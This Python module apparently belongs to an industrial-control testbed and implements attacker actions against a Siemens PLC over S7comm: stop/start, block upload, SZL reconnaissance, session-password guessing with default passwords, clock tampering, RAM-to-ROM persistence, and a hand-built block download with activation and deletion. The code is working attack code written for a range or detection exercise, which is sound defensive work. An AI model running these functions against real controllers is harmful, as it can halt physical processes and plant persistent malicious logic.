"""What the attacker does over S7comm. Block download is spoken here: snap7's client stops before the activation."""

from __future__ import annotations

import struct
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from snap7 import Client
from snap7.connection import ISOTCPConnection
from snap7.error import S7Error

from testbed.commands import RangeError
from testbed.plant_s7 import connect
from testbed.s7_server import ACK_DATA, DOWNLOAD_BLOCK, DOWNLOAD_ENDED, JOB, PLC_CONTROL, PROTECTED, REQUEST_DOWNLOAD

FUNCTION_BLOCK_FC = 0x43
FREE_BLOCK, PROTECTED_BLOCK = 17, 1001
GUESSES = ("siemens", "basisk", "admin", "12345678")
SLICE_BYTES = 222  # what a CPU with 240 byte PDUs asks for at a time


def plc_stop(target: str) -> str:
    return _with_client(target, lambda client: f"answered {client.plc_stop()}")


def plc_start(target: str) -> str:
    return _with_client(target, lambda client: f"answered {client.plc_hot_start()}")


def upload(target: str) -> str:
    return _with_client(target, lambda client: f"DB1: {len(client.upload(1))} bytes")


def szl_read(target: str) -> str:
    """The lists an intruder reads first: what is it, what is it called, which mode is it in."""

    def read(client: Client) -> str:
        sizes = [client.read_szl(szl, index).Header.LengthDR for szl, index in ((0x0011, 0), (0x001C, 0), (0x0424, 0))]
        return f"SZL 0x0011, 0x001C, 0x0424: {sizes} bytes"

    return _with_client(target, read)


def block_delete(target: str) -> str:
    """Delete a block that was loaded before. (The _DELE of snap7's client writes the block's type in hexadecimal.)"""

    def delete(client: Client) -> str:
        if error := _download(client, FREE_BLOCK, _block(FREE_BLOCK)):
            raise RangeError(f"the download was refused with 0x{error:04x}")
        if error := _pi_service(client, b"_DELE", FREE_BLOCK, b"B"):
            raise RangeError(f"the deletion was refused with 0x{error:04x}")
        return f"FC{FREE_BLOCK} deleted"

    return _with_client(target, delete)


def clock_set(target: str) -> str:
    """Set the PLC's clock back by a day."""

    def turn_back(client: Client) -> str:
        wrong = datetime.now(UTC) - timedelta(days=1)
        client.set_plc_datetime(wrong.replace(tzinfo=None))
        return f"clock set to {wrong:%Y-%m-%d %H:%M}"

    return _with_client(target, turn_back)


def password_guess(target: str) -> str:
    """Offer session passwords, as a tool with a word list does."""

    def guess(client: Client) -> str:
        for password in GUESSES:
            client.set_session_password(password)
        return f"{len(GUESSES)} passwords offered"

    return _with_client(target, guess)


def memory_to_rom(target: str) -> str:
    """Make changes survive a power cycle: copy RAM to ROM (PI service _MODU)."""
    return _with_client(target, lambda client: f"answered {client.copy_ram_to_rom()}")


def download(target: str) -> str:
    """Load FC17 whole and activate it."""

    def load(client: Client) -> str:
        if error := _download(client, FREE_BLOCK, _block(FREE_BLOCK)):
            raise RangeError(f"the download was refused with 0x{error:04x}")
        return f"FC{FREE_BLOCK} loaded and activated"

    return _with_client(target, load)


def download_refused(target: str) -> str:
    """The same for a block that the PLC protects."""

    def load(client: Client) -> str:
        error = _download(client, PROTECTED_BLOCK, _block(PROTECTED_BLOCK))
        if error != PROTECTED:
            raise RangeError(f"expected refusal 0x{PROTECTED:04x}, got 0x{error:04x}")
        return f"FC{PROTECTED_BLOCK} refused with 0x{error:04x}"

    return _with_client(target, load)


def _block(number: int) -> bytes:
    """A block as it lies in load memory: 36 bytes of header, code, 36 bytes of footer. The code is `BE` after NOPs."""
    code = b"\xf0\x00" * 150 + b"\x65\x00"
    length = 36 + len(code) + 36
    header = struct.pack(">HBBBBHI", 0x7070, 1, 1, 2, 0x0C, number, length)
    return header + bytes(34 - len(header)) + struct.pack(">H", len(code)) + code + bytes(36)


def _download(client: Client, number: int, block: bytes) -> int:
    """Request, serve the PLC's own jobs, activate. Returns the error with which the PLC refused, or 0."""
    name = b"_0" + bytes((FUNCTION_BLOCK_FC,)) + f"{number:05d}".encode() + b"P"
    sizes = f"1{len(block):06d}{len(block) - 72:06d}".encode()
    error = _job(client, bytes((REQUEST_DOWNLOAD, 0, 1)) + bytes(5) + b"\x09" + name + b"\x0d" + sizes)
    if error:
        return error
    link = _link(client)
    position, ended = 0, False
    while not ended:
        job = link.receive_data()
        reference, function = int.from_bytes(job[4:6], "big"), job[10]
        if function == DOWNLOAD_BLOCK:
            piece = block[position : position + SLICE_BYTES]
            position += len(piece)
            parameters = bytes((DOWNLOAD_BLOCK, 1 if position < len(block) else 0))
            data = struct.pack(">HH", len(piece), 0x00FB) + piece
        elif function == DOWNLOAD_ENDED:
            parameters, data, ended = bytes((DOWNLOAD_ENDED,)), b"", True
        else:
            raise RangeError(f"unexpected job 0x{function:02x} of the PLC during a download")
        header = struct.pack(">BBHHHHH", 0x32, ACK_DATA, 0, reference, len(parameters), len(data), 0)
        link.send_data(header + parameters + data)
    # _INSE: the loaded block moves from the passive to the active file system.
    return _pi_service(client, b"_INSE", number, b"P")


def _pi_service(client: Client, name: bytes, number: int, file_system: bytes) -> int:
    """Start a program invocation service for one block; returns the error, or 0."""
    argument = bytes((1, 0)) + b"0" + bytes((FUNCTION_BLOCK_FC,)) + f"{number:05d}".encode() + file_system
    head = bytes((PLC_CONTROL,)) + bytes(6) + b"\xfd" + struct.pack(">H", len(argument))
    return _job(client, head + argument + bytes((len(name),)) + name)


def _job(client: Client, parameters: bytes) -> int:
    """Send one job and return the error of its acknowledgement."""
    reference = client.protocol._next_sequence()
    link = _link(client)
    link.send_data(struct.pack(">BBHHHH", 0x32, JOB, 0, reference, len(parameters), 0) + parameters)
    answer = link.receive_data()
    if int.from_bytes(answer[4:6], "big") != reference:
        raise RangeError("the PLC answered something else than the job")
    return int.from_bytes(answer[10:12], "big")


def _link(client: Client) -> ISOTCPConnection:
    if client.connection is None:
        raise RangeError("the connection to the PLC is gone")
    return client.connection


def _with_client(target: str, act: Callable[[Client], str]) -> str:
    try:
        client = connect(target)
        try:
            return act(client)
        finally:
            client.disconnect()
    except S7Error as error:
        raise RangeError(f"S7 at {target}: {error}") from error
